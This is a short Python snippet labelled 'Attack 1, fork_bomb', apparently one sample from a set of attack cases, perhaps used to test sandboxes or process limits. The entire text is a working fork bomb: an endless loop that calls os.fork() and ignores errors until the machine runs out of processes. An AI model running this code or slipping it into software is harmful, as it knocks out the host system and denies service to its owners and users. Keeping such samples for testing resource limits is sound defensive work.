# Attack 1, fork_bomb: fork() loop that never reaps.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
